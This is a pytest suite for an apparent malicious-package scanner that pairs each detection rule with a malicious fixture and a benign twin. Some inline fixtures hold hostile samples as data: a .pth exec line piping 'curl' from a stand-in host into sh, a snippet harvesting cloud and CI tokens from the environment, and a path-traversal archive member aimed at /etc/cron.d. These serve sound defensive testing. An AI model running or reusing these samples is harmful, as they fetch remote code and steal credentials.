"""Every rule has a malicious case that triggers it and a benign twin that stays clean.

Most cases are corpus fixtures (tests/corpus); rules about the archive, metadata fields and
release history get their own small builds below. A rule added to the registry without a case
here fails `test_every_rule_has_a_case`.
"""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from stilton.scanning import RULES, PriorRelease, ScanPolicy, Verdict, scan_file
from stilton.scanning.rules import Hit
from tests.builders import build_tar_gz, build_zip
from tests.unit.scanning.conftest import rules_of

# rule -> (malicious corpus pattern, benign twin pattern)
CORPUS_CASES: dict[str, tuple[str, str]] = {
    "install-network": ("setup-http-beacon", "setup-url-only"),
    "install-process": ("setup-powershell-cradle", "setup-git-describe"),
    "install-exec": ("setup-install-download-exec", "setup-exec-version-file"),
    "install-secret-access": ("setup-ssh-key-stealer", "setup-readme-requirements"),
    "install-writes-outside": ("setup-bashrc-persistence", "setup-writes-version-file"),
    "install-drops-file": ("setup-drops-executable", "setup-writes-version-file"),
    "pth-executes-code": ("pth-base64-exec", "distutils-precedence-pth"),
    "pth-import-hook": ("pth-imports-beacon", "popular-dependencies"),
    "import-time-network": ("import-time-beacon", "cli-main-requests"),
    "exec-decoded-payload": ("setup-base64-exec", "base64-asset-written"),
    "exec-code-object": ("init-marshal-blob", "marshal-bytecode-cache"),
    "exec-disguised-string": ("init-chr-join", "rot13-utility"),
    "obfuscated-name": ("init-obfuscated-import", "reversed-frame-lookup"),
    "exec-non-python-file": ("payload-in-data-file", "setup-exec-version-file"),
    "drop-and-execute": ("drop-and-run", "base64-asset-written"),
    "hidden-after-whitespace": ("setup-hidden-whitespace", "aligned-comments"),
    "homoglyph-identifier": ("init-fullwidth-exec", "greek-identifiers"),
    "generated-identifiers": ("generated-identifiers", "hash-constants"),
    "anti-analysis": ("anti-vm-stealer", "winreg-reader"),
    "high-entropy-string": ("shellcode-loader", "data-uri-template"),
    "high-entropy-install-time": ("setup-drops-executable", "setup-git-describe"),
    "credential-sweep": ("credential-sweep-archive", "botocore-style-credentials"),
    "token-store-access": ("discord-token-grabber", "discord-bot-library"),
    "browser-credential-store": ("browser-password-stealer", "github-token-header"),
    "crypto-wallet-files": ("crypto-wallet-stealer", "popular-dependencies"),
    "credential-file-access": ("ssh-key-raw-socket", "json-api-client"),
    "clipboard-hijack": ("clipboard-hijacker", "clipboard-library"),
    "shellcode-loader": ("shellcode-loader", "ctypes-windows-api"),
    "process-injection-api": ("shellcode-loader", "ctypes-libc"),
    "persistence": ("setup-run-key", "winreg-reader"),
    "defense-evasion": ("defender-exclusion", "winreg-reader"),
    "keyboard-hook": ("keylogger-mailer", "clipboard-library"),
    "exfiltrate-credentials": ("browser-password-stealer", "botocore-style-credentials"),
    "exfiltrate-environment": ("setup-environment-dump", "subprocess-env-copy"),
    "beacon-host-info": ("setup-dns-beacon", "telemetry-platform"),
    "download-execute": ("setup-install-download-exec", "dataset-downloader"),
    "reverse-shell": ("setup-reverse-shell", "pexpect-style-pty"),
    "hardcoded-webhook": ("discord-token-grabber", "discord-bot-library"),
    "suspicious-endpoint": ("setup-pastebin-stage", "json-api-client"),
    "surveillance-exfil": ("screenshot-exfil", "screenshot-helper"),
    "typosquat-name": ("typosquat-reqeusts", "popular-neighbour"),
    "dependency-confusion-version": ("dependency-confusion-99", "calendar-version"),
    "empty-description": ("lookalike-dependencies", "described-minimal"),
    "description-of-other-project": ("typosquat-copied-readme", "plugin-describing-parent"),
    "url-of-other-project": ("typosquat-copied-readme", "fork-with-parent-url"),
    "lookalike-dependency": ("lookalike-dependencies", "popular-dependencies"),
    "known-bad-dependency": ("known-bad-dependency", "popular-dependencies"),
    "pyc-without-source": ("pyc-loader", "pycache-with-source"),
}
# Rules whose cases are built by the tests below.
SPECIAL_CASES = {
    "pth-path-entry": "test_pth_path_entry",
    "exec-decoded-text": "test_exec_decoded_text",
    "packed-code": "test_packed_code",
    "env-harvest": "test_env_harvest",
    "direct-url-dependency": "test_direct_url_dependency",
    "new-install-time-capability": "test_permission_creep",
    "new-runtime-capability": "test_permission_creep",
    "scanner-error": "test_a_failing_rule_is_a_finding",
    "unreadable-archive": "test_unreadable_archive",
    "archive-limit": "test_archive_limit",
    "unsafe-member": "test_unsafe_member",
    "scan-incomplete": "test_scan_incomplete",
    "unparsable-source": "test_unparsable_source",
    "metadata-unreadable": "test_metadata_unreadable",
}


def test_every_rule_has_a_case():
    ids = {rule.id for rule in RULES}
    assert ids == set(CORPUS_CASES) | set(SPECIAL_CASES)
    assert len(ids) == len(RULES), "rule ids repeat"


def test_rules_are_described():
    for rule in RULES:
        assert rule.id == rule.id.lower()
        assert " " not in rule.id
        assert rule.explanation.endswith(".")
        assert rule.benign_twin


@pytest.mark.parametrize("rule", sorted(CORPUS_CASES))
def test_malicious_case_triggers_the_rule(rule, corpus_reports):
    report = corpus_reports[CORPUS_CASES[rule][0]]
    assert rule in rules_of(report)
    assert report.verdict is not Verdict.CLEAN


@pytest.mark.parametrize("rule", sorted(CORPUS_CASES))
def test_benign_twin_is_clean(rule, corpus_reports):
    report = corpus_reports[CORPUS_CASES[rule][1]]
    assert report.verdict is Verdict.CLEAN
    assert rule not in rules_of(report)


def test_findings_explain_themselves(corpus_reports):
    report = corpus_reports["setup-ssh-key-stealer"]
    finding = next(f for f in report.findings if f.rule == "install-secret-access")
    assert finding.path is not None
    assert finding.path.endswith("setup.py")
    assert finding.line is not None
    assert "id_rsa" in finding.evidence
    assert "setup.py runs it" in finding.explanation


def test_pth_path_entry(wheel):
    bad = scan_file(wheel({}, extra_members={"zz.pth": b"payload.zip\n"}))
    good = scan_file(wheel({}, extra_members={"zz.pth": b"src\n"}))
    assert "pth-path-entry" in rules_of(bad)
    assert rules_of(good) == set()


def test_pth_exec_of_literal_code_is_judged_by_what_the_code_does(wheel):
    """coverage's a1_coverage.pth runs a literal that only reads a variable and calls a hook."""
    hook = (
        'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n'
        " try:\\n  import coverage\\n except:\\n  pass\\n else:\\n"
        '  coverage.process_startup(slug="pth")\')\n'
    )
    spawn = "import sys; exec('import os\\nos.system(\"curl -s http://stage.invalid | sh\")')\n"
    good = scan_file(wheel({}, extra_members={"a1_sample.pth": hook.encode()}))
    bad = scan_file(wheel({}, extra_members={"a1_sample.pth": spawn.encode()}))
    assert "pth-executes-code" not in rules_of(good)
    assert good.verdict is Verdict.CLEAN
    assert "pth-executes-code" in rules_of(bad)
    assert bad.verdict is Verdict.MALICIOUS


def test_exec_decoded_text(sdist):
    py2 = "import base64\nexec base64.b64decode('cHJpbnQoMSk=')\nprint 'x'\n"
    bad = scan_file(sdist({"sample/legacy.py": py2}))
    good = scan_file(sdist({"sample/legacy.py": "print 'hello'\n"}))
    assert "exec-decoded-text" in rules_of(bad)
    assert bad.verdict is Verdict.MALICIOUS
    assert good.verdict is Verdict.CLEAN


def test_packed_code(wheel):
    armored = (
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
        "__pyarmor__(__name__, __file__, b'PYARMOR')\n"
    )
    bad = scan_file(wheel({"sample/core.py": armored}))
    good = scan_file(wheel({"sample/core.py": "def armor():\n    return 'pyarmor is a tool'\n"}))
    assert "packed-code" in rules_of(bad)
    assert "packed-code" not in rules_of(good)


def test_env_harvest(wheel):
    names = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "PYPI_PASSWORD", "SLACK_TOKEN"]
    harvest = f"import os\nSECRETS = {{n: os.environ.get(n) for n in {names!r}}}\n"
    bad = scan_file(wheel({"sample/env.py": harvest}))
    good = scan_file(
        wheel({"sample/env.py": "import os\nTOKEN = os.environ.get('GITHUB_TOKEN')\n"})
    )
    assert "env-harvest" in rules_of(bad)
    assert "env-harvest" not in rules_of(good)


def test_direct_url_dependency(wheel):
    bad = scan_file(wheel({}, requires_dist=["helper @ https://files.invalid/helper-1.0.tar.gz"]))
    good = scan_file(wheel({}, requires_dist=["helper>=1.0"]))
    assert "direct-url-dependency" in rules_of(bad)
    assert "direct-url-dependency" not in rules_of(good)


def test_permission_creep(wheel, sdist):
    quiet = scan_file(wheel({}, version="1.0"))
    networked = "import requests\n\ndef fetch(url):\n    return requests.get(url).text\n"
    later = wheel({"sample/net.py": networked}, version="1.1")
    assert "network" not in quiet.capabilities
    previous = PriorRelease("1.0", quiet.capabilities)
    gained = scan_file(later, previous=previous)
    assert "new-runtime-capability" in rules_of(gained)
    assert gained.verdict is Verdict.CLEAN  # a new HTTP client alone is not a verdict
    major = scan_file(wheel({"sample/net.py": networked}, version="2.0"), previous=previous)
    assert "new-runtime-capability" not in rules_of(major)
    hook = (
        "import os\nos.system('pip install helper-tool')\nfrom setuptools import setup\nsetup()\n"
    )
    installs = scan_file(sdist({"setup.py": hook}, version="1.0.1"), previous=previous)
    assert "install-time" in installs.capabilities
    assert "new-install-time-capability" in rules_of(installs)
    same = scan_file(
        sdist({"setup.py": hook}, version="1.0.2"),
        previous=PriorRelease("1.0.1", installs.capabilities),
    )
    assert "new-install-time-capability" not in rules_of(same)


def test_a_failing_rule_is_a_finding(wheel, monkeypatch):
    from stilton.scanning import registry, scanner

    def broken(ctx):
        raise RuntimeError("boom")
        yield Hit(None, None, "")  # pragma: no cover

    rules = tuple(
        dataclasses.replace(rule, check=broken) if rule.id == "empty-description" else rule
        for rule in registry.RULES
    )
    monkeypatch.setattr(scanner, "RULES", rules)
    report = scan_file(wheel({}))
    assert rules_of(report) == {"scanner-error"}
    assert report.verdict is Verdict.SUSPICIOUS
    assert "boom" in report.findings[0].evidence


def test_unreadable_archive(tmp_path, wheel):
    junk = tmp_path / "junk-1.0-py3-none-any.whl"
    junk.write_bytes(b"PK\x03\x04 this is not a zip")
    report = scan_file(junk)
    assert rules_of(report) == {"unreadable-archive"}
    assert report.verdict is Verdict.SUSPICIOUS
    assert scan_file(wheel({})).verdict is Verdict.CLEAN


def test_archive_limit(tmp_path, wheel):
    many = {f"sample/m{i}.py": "" for i in range(30)}
    policy = ScanPolicy(
        archive_limits=dataclasses.replace(ScanPolicy().archive_limits, max_members=10)
    )
    report = scan_file(wheel(many), policy=policy)
    assert "archive-limit" in rules_of(report)
    assert report.verdict is Verdict.SUSPICIOUS
    assert "archive-limit" not in rules_of(scan_file(wheel(many)))


def test_unsafe_member(tmp_path):
    bad = build_zip(tmp_path, "evil-1.0-py3-none-any.whl", {"../../etc/cron.d/x": b"* * * * *"})
    good = build_zip(tmp_path, "fine-1.0-py3-none-any.whl", {"fine/__init__.py": b""})
    linked = build_tar_gz(
        tmp_path,
        "linked-1.0.tar.gz",
        {"linked-1.0/PKG-INFO": b""},
        symlinks={"linked-1.0/x": "/etc"},
    )
    assert "unsafe-member" in rules_of(scan_file(bad))
    assert "unsafe-member" in rules_of(scan_file(linked))
    assert "unsafe-member" not in rules_of(scan_file(good))


def test_scan_incomplete(wheel):
    files = {f"sample/m{i}.py": "x = 1\n" * 50 for i in range(20)}
    report = scan_file(wheel(files), policy=ScanPolicy(max_total_bytes=2000))
    assert "scan-incomplete" in rules_of(report)
    assert report.verdict is Verdict.CLEAN
    assert "scan-incomplete" not in rules_of(scan_file(wheel(files)))


def test_unparsable_source(sdist):
    report = scan_file(sdist({"setup.py": "print 'python 2'\n"}))
    assert "unparsable-source" in rules_of(report)
    assert report.verdict is Verdict.CLEAN
    assert "unparsable-source" not in rules_of(scan_file(sdist({})))


def test_metadata_unreadable(tmp_path: Path, wheel):
    bare = build_zip(tmp_path, "bare-1.0-py3-none-any.whl", {"bare/__init__.py": b""})
    assert "metadata-unreadable" in rules_of(scan_file(bare))
    assert "metadata-unreadable" not in rules_of(scan_file(wheel({})))
